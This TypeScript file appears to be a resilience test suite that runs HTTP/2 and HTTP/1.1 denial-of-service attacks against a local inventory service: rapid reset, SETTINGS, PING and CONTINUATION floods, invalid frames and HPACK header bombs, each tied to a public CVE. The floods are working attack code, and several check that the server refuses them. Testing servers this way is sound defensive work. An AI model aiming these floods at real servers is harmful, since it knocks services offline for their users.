import { randomBytes } from "node:crypto";
import type { Attack } from "./attack.ts";
import {
  END_HEADERS,
  END_STREAM,
  FRAME,
  field,
  frame,
  indexedField,
  PREFACE,
  postBlock,
  RawClient,
  SETTINGS,
} from "./raw-client.ts";

// Frames and headers in abnormal numbers and sizes.

const GET_STOCK = "/inventory.v1.StockService/GetStock";
const HELLO = Buffer.concat([PREFACE, SETTINGS]);
const CANCEL = Buffer.of(0, 0, 0, 8);
/** Time to reject a head for its size on a busy machine: less than the 10 s after which any head is rejected. */
const REFUSED_MS_MAX = 8_000;

/** Streams that are opened and reset at once (CVE-2023-44487), on consecutive connections. */
export const rapidReset: Attack = async ({ port, times }) => {
  const block = postBlock(GET_STOCK);
  let resets = 0;
  let connections = 0;
  while (resets < 5_000 * times) {
    using client = (await RawClient.open(port)).read();
    connections += 1;
    await client.send(HELLO);
    for (let stream = 1; stream < 20_000 && client.isOpen; stream += 200) {
      const frames = Array.from({ length: 100 }, (_, each) => stream + 2 * each).flatMap((id) => [
        frame(FRAME.headers, END_HEADERS, id, block),
        frame(FRAME.reset, 0, id, CANCEL),
      ]);
      await client.send(Buffer.concat(frames));
      resets += 100;
    }
  }
  return `${resets} streams reset on ${connections} connections`;
};

/** Ten thousands of SETTINGS frames from a client that does not read the acknowledgements. */
export const settingsFlood: Attack = ({ port, times }) => {
  const entries = Buffer.concat(Array.from({ length: 6 }, (_, id) => Buffer.of(0, id + 1, 0, 0, 1, 0)));
  return flood(port, times, Buffer.concat([frame(FRAME.settings, 0, 0, entries), SETTINGS]));
};

/** PINGs from a client that does not read the replies (CVE-2019-9512). */
export const pingFlood: Attack = ({ port, times }) =>
  flood(port, times, frame(FRAME.ping, 0, 0, randomBytes(8)));

/** Resets, window updates and priorities of streams that do not exist. */
export const invalidFrames: Attack = ({ port, times }) =>
  flood(
    port,
    times,
    Buffer.concat([
      frame(2, 0, 1, Buffer.alloc(5)),
      frame(FRAME.windowUpdate, 0, 0, Buffer.of(0, 0, 0, 1)),
      frame(FRAME.data, 0, 0, Buffer.alloc(0)),
    ]),
  );

async function flood(port: number, times: number, frames: Buffer): Promise<string> {
  const chunk = Buffer.concat(Array.from({ length: 500 }, () => frames));
  let sent = 0;
  const clients = await RawClient.openMany(port, 4);
  for (const client of clients) {
    await client.send(HELLO);
    for (let each = 0; each < 20 * times && client.isOpen; each += 1) {
      await client.send(chunk, 100);
      sent += chunk.length;
    }
  }
  const cut = clients.filter((client) => !client.isOpen).length;
  for (const client of clients) {
    client[Symbol.dispose]();
  }
  return `${Math.round(sent / 1_024)} KB of frames; ${cut} of ${clients.length} connections cut`;
}

/** An endless header block (CVE-2024-27316). */
export const continuationFlood: Attack = async ({ port, times }) => {
  const more = frame(FRAME.continuation, 0, 1, field("x", "a".repeat(8_000)));
  let sent = 0;
  for (let round = 0; round < 4 * times; round += 1) {
    using client = await RawClient.open(port);
    await client.send(Buffer.concat([HELLO, frame(FRAME.headers, END_STREAM, 1, postBlock(GET_STOCK))]));
    for (let each = 0; each < 2_000 && client.isOpen; each += 1) {
      await client.send(more, 100);
      sent += more.length;
    }
    if (!(await client.closed(REFUSED_MS_MAX))) {
      throw new Error("a header block without an end was read on and on");
    }
  }
  return `${Math.round(sent / 1_024)} KB of CONTINUATION`;
};

/** Heads that are long, have many fields, or expand (an HPACK bomb, CVE-2016-6581). */
export const headerBombs: Attack = async ({ port, times }) => {
  const pairs = Array.from({ length: 500 }, (_, each) => field(`x-${each}`, "a"));
  const seed = indexedField("bomb", "b".repeat(3_900));
  const blocks = [
    Buffer.concat([postBlock(GET_STOCK), ...pairs]),
    Buffer.concat([postBlock(GET_STOCK), field("x", "a".repeat(15_000))]),
    // 0xbe refers to the newest field of the table: 12,000 bytes expand to 47 MB.
    Buffer.concat([postBlock(GET_STOCK), seed, Buffer.alloc(12_000, 0xbe)]),
  ];
  const heads = [
    `GET / HTTP/1.1\r\nHost: a\r\nX: ${"a".repeat(1_000_000)}\r\n\r\n`,
    `GET / HTTP/1.1\r\nHost: a\r\n${"x: a\r\n".repeat(50_000)}\r\n`,
    `GET /${"a".repeat(500_000)} HTTP/1.1\r\nHost: a\r\n\r\n`,
  ];
  for (let round = 0; round < 5 * times; round += 1) {
    for (const block of blocks) {
      using client = (await RawClient.open(port)).read();
      await client.send(HELLO);
      for (let stream = 1; stream < 100 && client.isOpen; stream += 2) {
        await client.send(frame(FRAME.headers, END_HEADERS | END_STREAM, stream, block));
      }
    }
    for (const head of heads) {
      using client = (await RawClient.open(port)).read();
      await client.send(head);
      await client.closed(REFUSED_MS_MAX);
      if (!/^HTTP\/1.1 4\d\d /.test(client.received)) {
        throw new Error(`a head that is too long was answered ${client.received.slice(0, 40)}`);
      }
    }
  }
  return `${5 * times * 50 * blocks.length} blocks over HTTP/2, ${5 * times * heads.length} heads over HTTP/1.1`;
};
